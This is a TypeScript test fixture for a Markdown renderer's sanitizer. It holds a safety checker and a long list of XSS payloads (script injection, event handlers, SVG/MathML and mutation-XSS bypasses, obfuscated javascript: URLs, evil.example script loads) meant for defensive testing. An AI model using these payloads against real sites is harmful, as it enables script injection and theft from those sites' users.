/**
 * Hostile Markdown and HTML (XSS payloads), and a check that rendered HTML is safe to insert
 * into a learner's page. Used by the renderer's unit tests and by the API tests that send the
 * samples through every Markdown field of every block and card.
 */
import { JSDOM } from 'jsdom';
import { expect } from 'vitest';

// An independent parse of the output, as a learner's browser would do with `innerHTML`.
const { document } = new JSDOM('<!doctype html><body></body>').window;
const XHTML = 'http://www.w3.org/1999/xhtml';

const ALLOWED_TAGS = new Set(
  'p br hr h2 h3 h4 em strong del code pre ul ol li blockquote a img table thead tbody tr th td'.split(
    ' ',
  ),
);
const FORBIDDEN_TAGS = 'script, iframe, object, embed, form, style, svg, math, meta, base, link';
const ALLOWED_ATTRIBUTES = new Set('href src alt title rel target align start class'.split(' '));

export function parse(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

/** Throws with a precise reason when the HTML could run script or leave the allowed shape. */
export function assertSafe(html: string): void {
  // Parse, serialise, parse again: mutation XSS shows up on the second parse.
  for (const root of [parse(html), parse(parse(html).innerHTML)]) {
    expect(root.querySelector(FORBIDDEN_TAGS), `forbidden element in ${html}`).toBeNull();
    for (const el of root.querySelectorAll('*')) {
      const tag = el.localName;
      expect(el.namespaceURI, `namespace of <${tag}> in ${html}`).toBe(XHTML);
      expect(ALLOWED_TAGS.has(tag), `<${tag}> in ${html}`).toBe(true);
      for (const { name, value } of el.attributes) {
        expect(name.startsWith('on'), `${name} on <${tag}> in ${html}`).toBe(false);
        expect(ALLOWED_ATTRIBUTES.has(name), `${name} on <${tag}> in ${html}`).toBe(true);
        if (name === 'href') {
          expect(value, `href in ${html}`).toMatch(/^(?:https?:\/\/|mailto:)/i);
          expect(['http:', 'https:', 'mailto:']).toContain(new URL(value).protocol);
        }
        if (name === 'src') {
          if (value.startsWith('/api/')) expect(value).not.toMatch(/^\/\/|\.\.|\\/);
          else expect(['http:', 'https:']).toContain(new URL(value).protocol);
        }
      }
    }
  }
}

/** XSS payloads, in Markdown and HTML forms (OWASP cheat sheet, DOMPurify's bypass history). */
export const HOSTILE: string[] = [
  // script
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script\n>alert(1)</script\n>',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="https://ok.example/a.png" alt="x" onload=alert(1)>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example"onmouseover="alert(1)">x</a>',
  '<a href="mailto:x@y.example" onclick=alert(1)>m</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<h1 onclick=alert(1)>title</h1>',
  '<x onclick=alert(1)>custom</x><my-element onclick=alert(1)>custom</my-element>',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<p><svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  // mutation XSS (DOMPurify bypasses of the past)
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  // frames, plugins, forms, document-level elements
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<applet code="x.class"></applet>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action=javascript:alert(1) type=image>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  // style and clobbering
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<a href="https://ok.example" style="position:fixed;inset:0">overlay</a>',
  '<img name="getElementById"><a id="cookie" name="cookie">x</a><p id="location">x</p>',
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
  // javascript:, vbscript:, data: URLs in HTML, plain and obfuscated
  '<a href=javascript:alert(1)>x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#x01;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x">',
  '<img src="/api/../../evil">',
  '<<a href="javascript:alert(1)">x</a>',
  // javascript:, vbscript:, data: URLs in Markdown
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](jav&#x61;script:alert(1))',
  '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[x](<java script:alert(1)>)',
  '[x](javascript:alert(1) "title")',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](//evil.example/a.png)',
  '![x](/api/../../evil.png)',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '![x][img]\n\n[img]: javascript:alert(1)',
  '[ref]\n\n[ref]: <javascript:alert(1)> "t"',
  // attribute breaking and nesting
  '"><img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
  '![x" onerror="alert(1)](https://ok.example/a.png)',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '**<img src=x onerror=alert(1)>**',
  '<div><p><span><a href="javascript:alert(1)">deep <b>unclosed',
  '- <img src=x onerror=alert(1)>\n  > <svg onload=alert(1)>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  // comments
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  // code stays text
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
];
